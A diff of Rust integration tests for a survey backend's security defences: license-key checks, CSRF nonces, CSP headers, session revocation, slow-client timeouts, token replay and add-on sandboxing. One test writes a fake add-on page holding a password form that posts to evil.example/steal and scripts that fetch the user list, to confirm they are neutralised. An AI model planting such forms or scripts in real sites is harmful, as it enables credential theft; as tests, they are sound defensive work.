@@ -593,3 +593,900 @@ backend_test!(
         assert_eq!(sent.status, 201, "{}", sent.body);
     }
 );
+
+/// A development key, as anyone can mint it with the public seed in the repository.
+fn development_key(tier: hearken::licensing::Tier) -> String {
+    hearken::licensing::MintRequest {
+        tier,
+        expires: None,
+        disabled: false,
+    }
+    .mint_dev()
+}
+
+backend_test!(
+    a_production_server_refuses_keys_of_the_development_issuer,
+    config = |c: &mut hearken::Config| c.dev = false,
+    |app| async move {
+        let mut admin = app.admin().await;
+        let res = admin
+            .post(
+                "/api/v1/license/verify",
+                json!({"key": development_key(hearken::licensing::Tier::Elite)}),
+            )
+            .await;
+        assert_eq!(res.status, 422, "{}", res.body);
+        let config = admin.get("/api/v1/config").await;
+        assert_eq!(config.body["license_type"], "lite");
+        assert_eq!(config.body["dev_mode"], false);
+    }
+);
+
+backend_test!(
+    an_operator_key_is_trusted_without_development_mode,
+    config = |c: &mut hearken::Config| {
+        use base64::Engine;
+        c.dev = false;
+        let issuer = ed25519_dalek::SigningKey::from_bytes(&[42; 32]);
+        c.license_public_keys = Some(
+            base64::engine::general_purpose::STANDARD.encode(issuer.verifying_key().to_bytes()),
+        );
+    },
+    |app| async move {
+        let issuer = ed25519_dalek::SigningKey::from_bytes(&[42; 32]);
+        let request = hearken::licensing::MintRequest {
+            tier: hearken::licensing::Tier::Pro,
+            expires: None,
+            disabled: false,
+        };
+        let key = hearken::licensing::mint(&issuer, &request, chrono::Utc::now().date_naive());
+        let mut admin = app.admin().await;
+        let res = admin
+            .post("/api/v1/license/verify", json!({"key": key}))
+            .await;
+        assert_eq!(res.status, 200, "{}", res.body);
+        assert_eq!(
+            admin.get("/api/v1/config").await.body["license_type"],
+            "pro"
+        );
+    }
+);
+
+backend_test!(
+    development_mode_is_announced_to_the_admin,
+    |app| async move {
+        let mut admin = app.admin().await;
+        assert_eq!(admin.get("/api/v1/config").await.body["dev_mode"], true);
+    }
+);
+
+#[test]
+fn minting_a_key_needs_the_issuers_private_key_file() {
+    let bin = env!("CARGO_BIN_EXE_hearken");
+    let data = tempfile::tempdir().unwrap();
+    let without = std::process::Command::new(bin)
+        .args(["license", "mint", "--tier", "elite", "--data-dir"])
+        .arg(data.path())
+        .env_remove("HEARKEN_LICENSE_ISSUER_KEY")
+        .output()
+        .unwrap();
+    assert!(!without.status.success());
+    let stderr = String::from_utf8_lossy(&without.stderr);
+    assert!(stderr.contains("--key-file"), "{stderr}");
+    assert!(without.stdout.is_empty());
+
+    let seed =
+        common::workspace_root().join("host/dev-keys/DEVELOPMENT-ONLY-license-issuer.seed.hex");
+    let with = std::process::Command::new(bin)
+        .args(["license", "mint", "--tier", "elite", "--key-file"])
+        .arg(&seed)
+        .output()
+        .unwrap();
+    assert!(
+        with.status.success(),
+        "{}",
+        String::from_utf8_lossy(&with.stderr)
+    );
+    assert!(String::from_utf8_lossy(&with.stdout).starts_with("HKN1."));
+
+    let wrong = data.path().join("not-a-key");
+    std::fs::write(&wrong, "hello").unwrap();
+    let refused = std::process::Command::new(bin)
+        .args(["license", "mint", "--tier", "elite", "--key-file"])
+        .arg(&wrong)
+        .output()
+        .unwrap();
+    assert!(!refused.status.success());
+    assert!(String::from_utf8_lossy(&refused.stderr).contains("is not an issuer key"));
+}
+
+backend_test!(
+    a_cross_site_request_cannot_spend_the_ai_providers_money,
+    |app| async move {
+        let mut admin = app.admin().await;
+        admin.license(hearken::licensing::Tier::Pro).await;
+        let res = admin
+            .post(
+                "/api/v1/surveys",
+                json!({"id": null, "title": "Ask", "status": "publish", "questions": [
+                    {"id": "t", "type": "long-text", "title": "Anything else?"}
+                ]}),
+            )
+            .await;
+        assert_eq!(res.status, 201, "{}", res.body);
+        let id = res.body["survey"]["id"].as_i64().unwrap();
+        let question = res.body["survey"]["questions"][0]["id"].clone();
+        let nonce = app.submission_nonce(id).await;
+        let sent = app
+            .client()
+            .post(
+                &format!("/api/v1/surveys/{id}/responses"),
+                json!({"answers": [{"question_id": question, "value": "Checkout is slow"}], "page_submitted": {}, "nonce": nonce}),
+            )
+            .await;
+        assert_eq!(sent.status, 201, "{}", sent.body);
+        let (url, seen) = common::ai::openai_mock((
+            200,
+            json!({"choices": [{"message": {"role": "assistant", "content": "Fine."}}]}),
+        ))
+        .await;
+        let res = admin
+            .post(
+                "/api/v1/settings",
+                json!({"ai_summary_endpoint": url, "ai_summary_api_key": "sk-test"}),
+            )
+            .await;
+        assert_eq!(res.status, 200, "{}", res.body);
+        let path = format!("/api/v1/ai-summary/{id}");
+
+        // A link or an image on another site sends a GET with the cookie: it only reads.
+        let read = admin.get(&path).await;
+        assert_eq!(read.status, 200, "{}", read.body);
+        assert_eq!(read.body["summary"], serde_json::Value::Null);
+        // A forged form sends a POST with the cookie but cannot know the nonce.
+        let nonce = admin.nonce.take();
+        let forged = admin.post(&path, json!({})).await;
+        assert_eq!(forged.status, 403, "{}", forged.body);
+        admin.nonce = nonce;
+        assert!(seen.lock().await.is_empty(), "the provider was called");
+
+        // The admin's own generations: one, then a cooldown.
+        let made = admin.post(&path, json!({})).await;
+        assert_eq!(made.body["summary"], "Fine.", "{}", made.body);
+        let again = admin.post(&path, json!({})).await;
+        assert_eq!(again.status, 429, "{}", again.body);
+        assert_eq!(again.body["code"], "too_many_requests");
+        let wait: u64 = again.headers["retry-after"]
+            .to_str()
+            .unwrap()
+            .parse()
+            .unwrap();
+        assert!((1..=60).contains(&wait), "{wait}");
+        assert_eq!(seen.lock().await.len(), 1);
+        assert_eq!(admin.get(&path).await.body["summary"], "Fine.");
+    }
+);
+
+backend_test!(
+    the_admin_cannot_be_framed_or_run_inline_script,
+    |app| async move {
+        let mut browser = app.client();
+        let page = browser.get("/admin/").await;
+        let csp = page.headers["content-security-policy"].to_str().unwrap();
+        for directive in [
+            "script-src 'self'",
+            "frame-ancestors 'none'",
+            "object-src 'none'",
+            "base-uri 'none'",
+        ] {
+            assert!(csp.contains(directive), "{csp}");
+        }
+        assert!(!csp.contains("unsafe-eval"), "{csp}");
+        let script = csp
+            .split(';')
+            .find(|d| d.trim().starts_with("script-src"))
+            .unwrap();
+        assert!(!script.contains("unsafe-inline"), "{csp}");
+        assert_eq!(page.headers["x-frame-options"], "DENY");
+        let api = browser.get("/api/v1/setup").await;
+        assert_eq!(api.headers["x-frame-options"], "DENY");
+        assert_eq!(api.headers["x-content-type-options"], "nosniff");
+    }
+);
+
+backend_test!(
+    an_add_on_cannot_plant_a_page_that_runs_as_this_site,
+    |app| async move {
+        let mut admin = app.admin().await;
+        admin.license(hearken::licensing::Tier::Pro).await;
+        let dir = tempfile::tempdir().unwrap();
+        let probe = common::workspace_root().join("host/tests/addons/probe/addon.toml");
+        std::fs::copy(probe, dir.path().join("addon.toml")).unwrap();
+        std::fs::create_dir_all(dir.path().join("assets")).unwrap();
+        std::fs::write(
+            dir.path().join("assets/login.html"),
+            "<form action=https://evil.example/steal><input name=password></form><script>fetch('/api/v1/users')</script>",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.path().join("assets/logo.svg"),
+            "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('/api/v1/users')</script></svg>",
+        )
+        .unwrap();
+        let (_, wasm) = common::addon_sources("probe");
+        let (_, bytes) = hearken::addons::package::pack(dir.path(), Some(&wasm)).unwrap();
+        let res = admin
+            .upload("/api/v1/addons/upload?activate=true", &bytes)
+            .await;
+        assert_eq!(res.status, 201, "{}", res.body);
+
+        let mut browser = app.client();
+        let page = browser.get("/addons/probe/assets/login.html").await;
+        assert_eq!(page.status, 200);
+        assert_eq!(page.headers["content-disposition"], "attachment");
+        let svg = browser.get("/addons/probe/assets/logo.svg").await;
+        let csp = svg.headers["content-security-policy"].to_str().unwrap();
+        assert!(csp.starts_with("sandbox"), "{csp}");
+        assert!(csp.contains("default-src 'none'"), "{csp}");
+    }
+);
+
+/// Starts the real listening loop on loopback with short limits; answers its address.
+async fn serve_with_short_limits(app: &TestApp) -> std::net::SocketAddr {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let address = listener.local_addr().unwrap();
+    let limits = hearken::http::server::Limits {
+        header_read: std::time::Duration::from_millis(400),
+        body_read: std::time::Duration::from_millis(400),
+        shutdown_grace: std::time::Duration::from_secs(1),
+    };
+    let router = app.router.clone();
+    tokio::spawn(hearken::http::server::serve(
+        listener,
+        router,
+        limits,
+        std::future::pending(),
+    ));
+    address
+}
+
+/// Everything the server sends until it closes the connection (at most 5 s).
+async fn read_until_closed(stream: &mut tokio::net::TcpStream) -> String {
+    use tokio::io::AsyncReadExt;
+    let mut received = Vec::new();
+    let read = tokio::time::timeout(
+        std::time::Duration::from_secs(5),
+        stream.read_to_end(&mut received),
+    )
+    .await;
+    assert!(
+        read.is_ok(),
+        "the server kept a slow client's connection open"
+    );
+    String::from_utf8_lossy(&received).into_owned()
+}
+
+#[tokio::test]
+async fn slow_clients_cannot_hold_connections_open() {
+    use tokio::io::AsyncWriteExt;
+    let app = TestApp::start(common::Backend::Sqlite).await.unwrap();
+    let address = serve_with_short_limits(&app).await;
+
+    // A fast client is served.
+    let mut fast = tokio::net::TcpStream::connect(address).await.unwrap();
+    fast.write_all(b"GET /healthz HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n")
+        .await
+        .unwrap();
+    assert!(
+        read_until_closed(&mut fast)
+            .await
+            .starts_with("HTTP/1.1 200")
+    );
+
+    // A connection that never sends a byte is closed.
+    let mut idle = tokio::net::TcpStream::connect(address).await.unwrap();
+    let started = std::time::Instant::now();
+    read_until_closed(&mut idle).await;
+    assert!(started.elapsed() < std::time::Duration::from_secs(3));
+
+    // Headers that trickle in are cut off.
+    let mut trickle = tokio::net::TcpStream::connect(address).await.unwrap();
+    trickle
+        .write_all(b"GET /healthz HTTP/1.1\r\n")
+        .await
+        .unwrap();
+    for _ in 0..3 {
+        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+        if trickle.write_all(b"x-slow: 1\r\n").await.is_err() {
+            break;
+        }
+    }
+    let answer = read_until_closed(&mut trickle).await;
+    assert!(!answer.starts_with("HTTP/1.1 200"), "{answer}");
+
+    // A body that never finishes gets an answer, not a held connection.
+    let mut body = tokio::net::TcpStream::connect(address).await.unwrap();
+    body.write_all(
+        b"POST /api/v1/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{\"email\":",
+    )
+    .await
+    .unwrap();
+    let answer = read_until_closed(&mut body).await;
+    let status: u16 = answer.get(9..12).and_then(|s| s.parse().ok()).unwrap_or(0);
+    assert!(
+        status == 0 || (400..500).contains(&status),
+        "a slow body must not be a server error: {answer}"
+    );
+}
+
+// Item 5: users can be managed, and a change that should end sessions does.
+
+/// The id of the account with `email`, as the administrator lists it.
+async fn user_id(admin: &mut Client, email: &str) -> i64 {
+    let users = admin.get("/api/v1/users").await.body;
+    users
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|u| u["email"] == email)
+        .unwrap_or_else(|| panic!("{email} is not listed: {users}"))["id"]
+        .as_i64()
+        .unwrap()
+}
+
+async fn add_editor(admin: &mut Client, email: &str, password: &str) -> i64 {
+    let res = admin
+        .post(
+            "/api/v1/users",
+            json!({"email": email, "password": password, "role": "editor"}),
+        )
+        .await;
+    assert_eq!(res.status, 201, "{}", res.body);
+    res.body["id"].as_i64().unwrap()
+}
+
+async fn signed_in(app: &TestApp, email: &str, password: &str) -> Client {
+    let mut client = app.client();
+    let res = client
+        .post(
+            "/api/v1/auth/login",
+            json!({"email": email, "password": password}),
+        )
+        .await;
+    assert_eq!(res.status, 200, "{email}: {}", res.body);
+    client
+}
+
+backend_test!(
+    a_disabled_user_is_signed_out_and_cannot_sign_in,
+    |app| async move {
+        let mut admin = app.admin().await;
+        let id = add_editor(&mut admin, "eve@example.com", "password-123").await;
+        let mut eve = signed_in(&app, "eve@example.com", "password-123").await;
+        assert_eq!(eve.get("/api/v1/auth/me").await.status, 200);
+
+        let res = admin
+            .post(&format!("/api/v1/users/{id}/disable"), json!({}))
+            .await;
+        assert_eq!(res.status, 200, "{}", res.body);
+        assert_eq!(res.body["disabled"], true);
+        assert_eq!(eve.get("/api/v1/auth/me").await.status, 401);
+        let again = login_from(&app, "198.51.100.9", "eve@example.com", "password-123").await;
+        assert_eq!(again.status, 401);
+        assert_eq!(again.body["code"], "account_disabled");
+
+        let res = admin
+            .post(&format!("/api/v1/users/{id}/enable"), json!({}))
+            .await;
+        assert_eq!(res.body["disabled"], false);
+        signed_in(&app, "eve@example.com", "password-123").await;
+    }
+);
+
+backend_test!(a_password_reset_ends_the_users_sessions, |app| async move {
+    let mut admin = app.admin().await;
+    let id = add_editor(&mut admin, "eve@example.com", "password-123").await;
+    let mut eve = signed_in(&app, "eve@example.com", "password-123").await;
+    let short = admin
+        .post(
+            &format!("/api/v1/users/{id}/password"),
+            json!({"password": "short"}),
+        )
+        .await;
+    assert_eq!(short.status, 422);
+    assert_eq!(
+        eve.get("/api/v1/auth/me").await.status,
+        200,
+        "a refused reset changes nothing"
+    );
+
+    let res = admin
+        .post(
+            &format!("/api/v1/users/{id}/password"),
+            json!({"password": "another-password"}),
+        )
+        .await;
+    assert_eq!(res.status, 200, "{}", res.body);
+    assert_eq!(eve.get("/api/v1/auth/me").await.status, 401);
+    let old = login_from(&app, "198.51.100.9", "eve@example.com", "password-123").await;
+    assert_eq!(old.status, 401);
+    signed_in(&app, "eve@example.com", "another-password").await;
+    // The administrator's own session was not touched.
+    assert_eq!(admin.get("/api/v1/auth/me").await.status, 200);
+});
+
+backend_test!(
+    changing_your_own_password_ends_your_other_sessions,
+    |app| async move {
+        let mut admin = app.admin().await;
+        let mut elsewhere = signed_in(&app, ADMIN_EMAIL, ADMIN_PASSWORD).await;
+        let wrong = admin
+            .post(
+                "/api/v1/auth/password",
+                json!({"current_password": "not it at all", "password": "a new password"}),
+            )
+            .await;
+        assert_eq!(wrong.status, 422, "{}", wrong.body);
+        assert_eq!(
+            wrong.body["fields"]["current_password"],
+            "The current password is not right."
+        );
+        let res = admin
+            .post(
+                "/api/v1/auth/password",
+                json!({"current_password": ADMIN_PASSWORD, "password": "a new password"}),
+            )
+            .await;
+        assert_eq!(res.status, 200, "{}", res.body);
+        assert_eq!(admin.get("/api/v1/auth/me").await.status, 200);
+        assert_eq!(elsewhere.get("/api/v1/auth/me").await.status, 401);
+        signed_in(&app, ADMIN_EMAIL, "a new password").await;
+    }
+);
+
+backend_test!(
+    the_last_active_administrator_cannot_be_removed,
+    |app| async move {
+        let mut admin = app.admin().await;
+        let me = user_id(&mut admin, ADMIN_EMAIL).await;
+        for (method, path, body) in [
+            ("POST", format!("/api/v1/users/{me}/disable"), json!({})),
+            (
+                "POST",
+                format!("/api/v1/users/{me}"),
+                json!({"role": "editor"}),
+            ),
+            ("DELETE", format!("/api/v1/users/{me}"), json!({})),
+        ] {
+            let res = match method {
+                "POST" => admin.post(&path, body).await,
+                _ => admin.delete(&path, body).await,
+            };
+            assert_eq!(res.status, 409, "{method} {path}: {}", res.body);
+            assert_eq!(res.body["code"], "last_administrator");
+            assert_eq!(
+                res.message(),
+                "At least one active administrator must remain."
+            );
+        }
+        assert_eq!(admin.get("/api/v1/auth/me").await.status, 200);
+
+        // With a second administrator, the first can go; their sessions end with them.
+        let res = admin
+            .post(
+                "/api/v1/users",
+                json!({"email": "root@example.com", "password": "password-123", "role": "administrator"}),
+            )
+            .await;
+        assert_eq!(res.status, 201);
+        let mut second = signed_in(&app, "root@example.com", "password-123").await;
+        let res = second
+            .delete(&format!("/api/v1/users/{me}"), json!({}))
+            .await;
+        assert_eq!(res.status, 200, "{}", res.body);
+        assert_eq!(admin.get("/api/v1/auth/me").await.status, 401);
+        let res = second.delete("/api/v1/users/99999", json!({})).await;
+        assert_eq!(res.status, 404);
+        assert_eq!(res.message(), "There is no user with id 99999.");
+    }
+);
+
+backend_test!(
+    an_unused_session_ends_after_the_idle_period,
+    |app| async move {
+        let mut admin = app.admin().await;
+        let res = admin
+            .post("/api/v1/settings", json!({"session_idle_hours": 0}))
+            .await;
+        assert_eq!(res.status, 422, "{}", res.body);
+        assert_eq!(
+            admin.get("/api/v1/settings").await.body["session_idle_hours"],
+            8
+        );
+        let res = admin
+            .post("/api/v1/settings", json!({"session_idle_hours": 1}))
+            .await;
+        assert_eq!(res.status, 200, "{}", res.body);
+        let mut busy = signed_in(&app, ADMIN_EMAIL, ADMIN_PASSWORD).await;
+        // Both sessions were last used 59 minutes ago, then one of them is used.
+        let earlier = hearken::time::now() - 59 * 60;
+        hearken::on_db!(&app.db, pool => sqlx::query("UPDATE sessions SET last_seen_at = $1")
+            .bind(earlier).execute(pool).await.unwrap().rows_affected());
+        assert_eq!(busy.get("/api/v1/auth/me").await.status, 200);
+        // Two more minutes pass: the unused session has been idle for over an hour.
+        hearken::on_db!(&app.db, pool => sqlx::query("UPDATE sessions SET last_seen_at = last_seen_at - 120")
+            .execute(pool).await.unwrap().rows_affected());
+        assert_eq!(admin.get("/api/v1/auth/me").await.status, 401);
+        assert_eq!(busy.get("/api/v1/auth/me").await.status, 200);
+    }
+);
+
+backend_test!(every_sign_in_gets_a_new_nonce, |app| async move {
+    let mut first = app.client();
+    let one = first
+        .post(
+            "/api/v1/setup",
+            json!({"email": ADMIN_EMAIL, "password": ADMIN_PASSWORD}),
+        )
+        .await
+        .body["nonce"]
+        .clone();
+    let two = login_from(&app, "203.0.113.10", ADMIN_EMAIL, ADMIN_PASSWORD)
+        .await
+        .body["nonce"]
+        .clone();
+    assert!(one.is_string() && two.is_string());
+    assert_ne!(one, two);
+    // The old session's nonce does not work with the new session.
+    let mut second = signed_in(&app, ADMIN_EMAIL, ADMIN_PASSWORD).await;
+    second.nonce = Some(one.as_str().unwrap().to_owned());
+    let res = second.post("/api/v1/settings", json!({})).await;
+    assert_eq!(res.status, 403);
+    assert_eq!(res.body["code"], "invalid_nonce");
+});
+
+#[test]
+fn users_are_managed_from_the_command_line() {
+    let bin = env!("CARGO_BIN_EXE_hearken");
+    let data = tempfile::tempdir().unwrap();
+    let run = |args: &[&str]| {
+        let out = std::process::Command::new(bin)
+            .args(args)
+            .arg("--data-dir")
+            .arg(data.path())
+            .env_remove("DATABASE_URL")
+            .output()
+            .unwrap();
+        (
+            out.status.success(),
+            String::from_utf8_lossy(&out.stdout).into_owned()
+                + &String::from_utf8_lossy(&out.stderr),
+        )
+    };
+    let (ok, out) = run(&[
+        "user",
+        "add",
+        "--email",
+        "ada@example.com",
+        "--password",
+        "password-123",
+    ]);
+    assert!(ok, "{out}");
+    let (ok, out) = run(&[
+        "user",
+        "add",
+        "--email",
+        "eve@example.com",
+        "--password",
+        "password-123",
+        "--role",
+        "editor",
+    ]);
+    assert!(ok, "{out}");
+    let (ok, out) = run(&[
+        "user",
+        "passwd",
+        "--email",
+        "eve@example.com",
+        "--password",
+        "new-password-1",
+    ]);
+    assert!(ok, "{out}");
+    let (ok, out) = run(&[
+        "user",
+        "passwd",
+        "--email",
+        "eve@example.com",
+        "--password",
+        "short",
+    ]);
+    assert!(!ok && out.contains("at least 8 characters"), "{out}");
+    let (ok, out) = run(&["user", "disable", "--email", "ada@example.com"]);
+    assert!(
+        !ok && out.contains("At least one active administrator must remain."),
+        "{out}"
+    );
+    let (ok, out) = run(&["user", "disable", "--email", "eve@example.com"]);
+    assert!(ok, "{out}");
+    let (ok, out) = run(&["user", "delete", "--email", "eve@example.com"]);
+    assert!(ok, "{out}");
+    let (ok, out) = run(&["user", "delete", "--email", "eve@example.com"]);
+    assert!(
+        !ok && out.contains("There is no user with the e-mail address eve@example.com."),
+        "{out}"
+    );
+}
+
+// Item 9: a submission token stores one response; the pages table stays bounded.
+
+backend_test!(
+    one_scraped_submission_token_stores_one_response,
+    |app| async move {
+        let mut admin = app.admin().await;
+        let res = admin
+            .post("/api/v1/surveys", common::valid_survey("Stuffed"))
+            .await;
+        let id = res.body["survey"]["id"].as_i64().unwrap();
+        let question = res.body["survey"]["questions"][0]["id"].clone();
+        let answer = json!([{"question_id": question, "value": "Well"}]);
+        let mut visitor = app.client();
+        let shown = visitor
+            .get("/api/v1/widget/survey?url=https%3A%2F%2Fshop.example%2F")
+            .await;
+        let impression = shown.body["survey"]["nonces"]["impression"]
+            .as_str()
+            .unwrap()
+            .to_owned();
+        let counted = visitor
+            .post(
+                &format!("/api/v1/surveys/{id}/impression?nonce={impression}"),
+                json!({}),
+            )
+            .await;
+        assert_eq!(counted.status, 200, "{}", counted.body);
+        let token = counted.body["submission"].as_str().unwrap().to_owned();
+
+        // The attacker replays the token from many addresses at once: one response is stored.
+        let mut stuffers: Vec<Client> = (0..12)
+            .map(|n| {
+                let mut c = app.client();
+                c.address = format!("198.51.100.{n}");
+                c
+            })
+            .collect();
+        let path = format!("/api/v1/surveys/{id}/responses");
+        let statuses = join_all(stuffers.iter_mut().map(|c| {
+            let body = json!({"answers": answer, "page_submitted": {}, "nonce": token});
+            let path = path.clone();
+            async move {
+                let res = c.post(&path, body).await;
+                (res.status, res.body["code"].clone())
+            }
+        }))
+        .await;
+        assert_eq!(
+            statuses.iter().filter(|(s, _)| *s == 201).count(),
+            1,
+            "{statuses:?}"
+        );
+        assert!(
+            statuses
+                .iter()
+                .filter(|(s, _)| *s != 201)
+                .all(|(s, code)| *s == 409 && code == "already_submitted"),
+            "{statuses:?}"
+        );
+        let again = visitor
+            .post(
+                &path,
+                json!({"answers": answer, "page_submitted": {}, "nonce": token}),
+            )
+            .await;
+        assert_eq!(again.status, 409);
+        assert_eq!(again.message(), "This response was already sent.");
+        let stored = admin.get(&format!("/api/v1/surveys/{id}/responses")).await;
+        assert_eq!(stored.body["pagination"]["total"], 1, "{}", stored.body);
+
+        // The page's own token works once as well.
+        let page_token = shown.body["survey"]["nonces"]["submission"]
+            .as_str()
+            .unwrap();
+        let first = visitor
+            .post(
+                &path,
+                json!({"answers": answer, "page_submitted": {}, "nonce": page_token}),
+            )
+            .await;
+        assert_eq!(first.status, 201, "{}", first.body);
+        let second = visitor
+            .post(
+                &path,
+                json!({"answers": answer, "page_submitted": {}, "nonce": page_token}),
+            )
+            .await;
+        assert_eq!(second.status, 409);
+    }
+);
+
+backend_test!(
+    made_up_pages_cannot_grow_the_pages_table_without_bound,
+    |app| async move {
+        use hearken::widget::store::{MAX_PAGES_SEEN, SeenPage, record_page};
+        // The table is full of pages seen over time, the oldest first.
+        let now = hearken::time::now();
+        hearken::on_db!(&app.db, pool => {
+            for n in 0..=MAX_PAGES_SEEN + 100 {
+                sqlx::query("INSERT INTO pages_seen (url, title, last_seen_at) VALUES ($1, $1, $2)")
+                    .bind(format!("https://shop.example/{n}")).bind(now - 100_000 + n)
+                    .execute(pool).await.unwrap();
+            }
+        });
+        let page = SeenPage {
+            url: "https://shop.example/new".into(),
+            title: "New".into(),
+            post_id: None,
+            page_type: None,
+        };
+        record_page(&app.db, &page, now).await.unwrap();
+        let (count, oldest_kept, new_kept): (i64, i64, i64) = hearken::on_db!(&app.db, pool => sqlx::query_as(
+            "SELECT COUNT(*), \
+             (SELECT COUNT(*) FROM pages_seen WHERE url = 'https://shop.example/0'), \
+             (SELECT COUNT(*) FROM pages_seen WHERE url = 'https://shop.example/new') FROM pages_seen")
+            .fetch_one(pool).await.unwrap());
+        assert_eq!(count, MAX_PAGES_SEEN);
+        assert_eq!(oldest_kept, 0, "the least recently seen page goes first");
+        assert_eq!(new_kept, 1);
+    }
+);
+
+backend_test!(
+    with_site_origins_set_other_sites_pages_are_not_recorded,
+    |app| async move {
+        let mut admin = app.admin().await;
+        let res = admin
+            .post(
+                "/api/v1/settings",
+                json!({"widget_allowed_origins": "https://shop.example"}),
+            )
+            .await;
+        assert_eq!(res.status, 200, "{}", res.body);
+        let mut visitor = app.client();
+        for url in [
+            "https://shop.example/cart",
+            "https://elsewhere.example/spam",
+        ] {
+            visitor
+                .send_full(
+                    axum::http::Method::GET,
+                    &format!(
+                        "/api/v1/widget/survey?url={}",
+                        url.replace(':', "%3A").replace('/', "%2F")
+                    ),
+                    None,
+                    &[("origin", "https://shop.example")],
+                )
+                .await;
+        }
+        // Pages are recorded off the request's path: give the writes a moment.
+        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+        let urls: Vec<String> = hearken::on_db!(&app.db, pool => sqlx::query_scalar("SELECT url FROM pages_seen ORDER BY url")
+            .fetch_all(pool).await.unwrap());
+        assert_eq!(urls, ["https://shop.example/cart"]);
+    }
+);
+
+// Add-on trust: what an add-on may reach.
+
+backend_test!(
+    an_add_ons_request_to_loopback_is_refused,
+    config = |c: &mut hearken::Config| c.addon_allowed_networks.clear(),
+    |app| async move {
+        let mut admin = app.admin().await;
+        let res = admin
+            .upload(
+                "/api/v1/addons/upload?activate=true",
+                &common::addon_package("webhook-notifier"),
+            )
+            .await;
+        assert_eq!(res.status, 201, "{}", res.body);
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let res = admin
+            .send_bytes(
+                axum::http::Method::PUT,
+                "/api/v1/addons/webhook-notifier/config",
+                "application/json",
+                json!({"url": format!("http://127.0.0.1:{port}/hook")})
+                    .to_string()
+                    .into_bytes(),
+            )
+            .await;
+        assert_eq!(res.status, 200, "{}", res.body);
+        let id = admin
+            .post("/api/v1/surveys", common::valid_survey("Hooked"))
+            .await
+            .body["survey"]["id"]
+            .as_i64()
+            .unwrap();
+        let nonce = app.submission_nonce(id).await;
+        let res = app
+            .client()
+            .post(
+                &format!("/api/v1/surveys/{id}/responses"),
+                json!({"answers": [{"question_id": "q1", "value": "Well"}], "nonce": nonce}),
+            )
+            .await;
+        assert_eq!(res.status, 201);
+        // The same round trip reaches the listener when loopback is allowed (common::webhook).
+        let reached =
+            tokio::time::timeout(std::time::Duration::from_secs(2), listener.accept()).await;
+        assert!(reached.is_err(), "the add-on reached 127.0.0.1");
+    }
+);
+
+/// Installs the probe add-on (`extra` appended to its manifest) as an administrator.
+async fn install_probe(app: &TestApp, admin: &mut Client, extra: &str) {
+    admin.license(hearken::licensing::Tier::Pro).await;
+    let package = common::addon_package_with("probe", |m| format!("{m}\n{extra}"));
+    let res = admin
+        .upload("/api/v1/addons/upload?activate=true", &package)
+        .await;
+    assert_eq!(res.status, 201, "{}", res.body);
+    let _ = app;
+}
+
+backend_test!(
+    an_editor_cannot_call_an_add_ons_admin_route_unless_its_manifest_says,
+    |app| async move {
+        let mut admin = app.admin().await;
+        install_probe(&app, &mut admin, "").await;
+        let mut editor = app.user_with_role(&mut admin, "editor").await;
+        let refused = editor.get("/api/v1/addons/probe/counter").await;
+        assert_eq!(refused.status, 403, "{}", refused.body);
+        assert_eq!(refused.body["code"], "missing_capability");
+        assert_eq!(admin.get("/api/v1/addons/probe/counter").await.status, 200);
+
+        // The manifest names a capability editors hold for the read; the write stays closed.
+        install_probe(
+            &app,
+            &mut admin,
+            "[[admin_routes]]\npath = \"/counter\"\nmethods = [\"GET\"]\ncapability = \"view_results\"\n",
+        )
+        .await;
+        assert_eq!(editor.get("/api/v1/addons/probe/counter").await.status, 200);
+        let write = editor.post("/api/v1/addons/probe/counter", json!({})).await;
+        assert_eq!(write.status, 403, "{}", write.body);
+    }
+);
+
+backend_test!(
+    an_add_ons_storage_has_a_quota,
+    config = |c: &mut hearken::Config| c.addon_storage_quota_mb = 0,
+    |app| async move {
+        let mut admin = app.admin().await;
+        admin.license(hearken::licensing::Tier::Pro).await;
+        // The probe counts its activations in its storage: with no room, activating it fails with
+        // the quota's message, and the add-on stays inactive.
+        let res = admin
+            .upload(
+                "/api/v1/addons/upload?activate=true",
+                &common::addon_package("probe"),
+            )
+            .await;
+        assert_eq!(res.status, 422, "{}", res.body);
+        assert!(
+            res.message().contains("the add-on's storage is full"),
+            "{}",
+            res.body
+        );
+        let listed = admin.get("/api/v1/addons").await.body;
+        let probe = listed
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|a| a["slug"] == "probe")
+            .cloned()
+            .unwrap_or_default();
+        assert_ne!(probe["active"], true, "{probe}");
+    }
+);
